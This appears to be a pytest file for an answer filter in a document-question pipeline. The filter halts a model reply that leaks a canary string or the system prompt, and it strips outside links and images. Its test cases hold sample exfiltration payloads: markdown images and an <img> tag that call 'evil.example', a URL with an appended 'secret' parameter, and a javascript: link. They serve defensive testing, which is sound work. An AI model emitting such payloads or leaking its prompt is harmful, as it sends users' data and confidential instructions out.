"""What a model says that must not go on: the prompt, and ways out of the page."""

import re

import pytest
from haystack import Document
from haystack.dataclasses import ChatMessage
from hypothesis import given
from hypothesis import strategies as st

from pipelines.answer_filter import HELD, AnswerFilter, inert
from pipelines.draft import LEFT_OFF, Draft
from pipelines.fencing import CANARY, system_text
from pipelines.prompts import ANSWER_TEMPLATE
from pipelines.settings import Endpoint, QuerySettings

PROMPT = system_text(ANSWER_TEMPLATE)
KNOWN = "https://intranet.example/pumps?id=7"
PASSAGE = Document(
    content=f"The pump needs oil every 500 hours. See {KNOWN} for more.",
    meta={"document": "manual.pdf", "document_id": "id", "page": 1, "span": [0, 74]},
)
SIZES = (1, 2, 3, 7, 1000)
PARTS = st.sampled_from(
    ("![", "](", "https:", "//", "evil.example", "/x?q=", "www.", "<img", " src=", "zq", "z", " ",
     "!", "[", "]", "(", ")", KNOWN, "oil", "\n", ".", "<br>")
)  # fmt: skip


def filtered(reply: str, size: int) -> tuple[str, bool]:
    """Return what goes on of a reply in pieces of a size, and whether it was stopped."""
    kept = AnswerFilter(PROMPT)
    out = [kept.feed(reply[at : at + size], [PASSAGE]) for at in range(0, len(reply), size)]
    return "".join([*out, kept.rest([PASSAGE])]), kept.leaked


@pytest.mark.parametrize("size", SIZES)
@pytest.mark.parametrize(
    "told",
    [CANARY, CANARY.upper(), "-".join(CANARY), f"**{CANARY[:9]}** {CANARY[9:]}"],
    ids=["plain", "upper", "parted", "marked"],
)
def test_the_canary_stops_the_answer_before_its_first_letter(told: str, size: int) -> None:
    said, leaked = filtered(f"The mark is {told} and so on.", size)

    assert leaked
    assert "The mark is ".startswith(said.rstrip("*"))


@pytest.mark.parametrize("size", SIZES)
def test_a_canary_that_is_cut_off_by_the_end_is_not_told_either(size: int) -> None:
    said, leaked = filtered(f"The mark is {CANARY[:-1]}", size)

    assert leaked
    assert "zq" not in said


@pytest.mark.parametrize("size", SIZES)
def test_the_text_of_the_prompt_stops_the_answer(size: int) -> None:
    said, leaked = filtered(f"I was told: {PROMPT}", size)

    assert leaked
    assert len(re.sub(r"\W", "", said)) <= len("Iwastold") + HELD


def test_what_a_document_says_too_is_no_leak() -> None:
    quoted = ANSWER_TEMPLATE[0].text or ""
    kept = AnswerFilter(PROMPT)

    said = kept.feed(f"It says: {quoted}", [Document(content=f"Prompt: {quoted}")]) + kept.rest()

    assert (said, kept.leaked) == (f"It says: {quoted}", False)


@pytest.mark.parametrize(
    ("reply", "left"),
    [
        ("Go to https://evil.example/?q=oil now.", "Go to [\u2026] now."),
        ("Go to https:/\\evil.example.", "Go to [\u2026]."),
        ("Go to www.evil.example.", "Go to [\u2026]."),
        (f"See {KNOWN}.", f"See {KNOWN}."),
        (f"See {KNOWN}&d=secret.", "See [\u2026]."),
        (f"[here]({KNOWN})", f"[here] ({KNOWN})"),
        (f"![a b]({KNOWN})", f"[a b] ({KNOWN})"),
        ("![a](//evil.example/p.png) end", "[a] ([\u2026]) end"),
        ("[a](javascript:alert(1)) end", "[a] (javascript:alert(1)) end"),
        ("<img src=//evil.example/p.png> end", "\u2039img src=[\u2026]> end"),
        ("Write x[1](2), <br>, a // b: c.", "Write x[1](2), <br>, a // b: c."),
    ],
)
@pytest.mark.parametrize("size", SIZES)
def test_addresses_and_images_of_the_models_own_are_taken_out(
    reply: str, left: str, size: int
) -> None:
    assert filtered(reply, size) == (left, False)


@given(st.lists(PARTS, max_size=25).map("".join), st.sampled_from(SIZES))
def test_nothing_that_loads_goes_out_however_the_pieces_fall(reply: str, size: int) -> None:
    said, _ = filtered(reply, size)

    assert "![" not in said
    assert not re.search(r"<img\b", said)
    assert not re.search(r"(?<!\w)//evil\.example", said)
    assert not re.search(r"\bwww\.evil", said)  # in the middle of a word no program sees a link


def test_a_quote_is_made_inert_too() -> None:
    assert inert("See ![x](https://evil.example/b.png).", []) == "See [x] ([\u2026])."


def asked(grounding: str, *deltas: str) -> tuple[str, Draft]:
    settings = QuerySettings(
        embedding=Endpoint(url="http://m/v1", model="m"),
        ranking=Endpoint(url="http://m/v1", model="m"),
        llm=Endpoint(url="http://m/v1", model="m"),
        grounding=grounding,  # type: ignore[arg-type]
    )
    draft = Draft("How often does the pump need oil?", settings, "documents")
    draft.saw("gate", {"documents": [PASSAGE]})
    texts = [text for delta in deltas for text in draft.heard(delta)]
    return "".join([*texts, *draft.last_texts()]), draft


@pytest.mark.parametrize("grounding", ["sentences", "off"])
def test_a_stream_that_leaks_ends_and_says_so(grounding: str) -> None:
    said, draft = asked(
        grounding, "Oil every 500 hours. ", f"I was given {CANARY}", " and so forth."
    )
    answer = draft.answer()

    assert said == answer.answer
    assert "zq" not in said
    assert "forth" not in said
    assert answer.withheld
    assert grounding == "sentences" or said.endswith(LEFT_OFF)


def test_a_whole_reply_that_leaks_is_not_given_out_at_all() -> None:
    _, draft = asked("off")
    reply = ChatMessage.from_assistant(f"Oil every 500 hours. {CANARY}")
    draft = Draft("How often does the pump need oil?", draft.settings, "documents")
    draft.saw("gate", {"documents": [PASSAGE]})
    draft.saw("llm", {"replies": [reply]})
    draft.heard_whole()

    assert "".join(draft.last_texts()).startswith("The pump needs oil")
    assert draft.answer().withheld
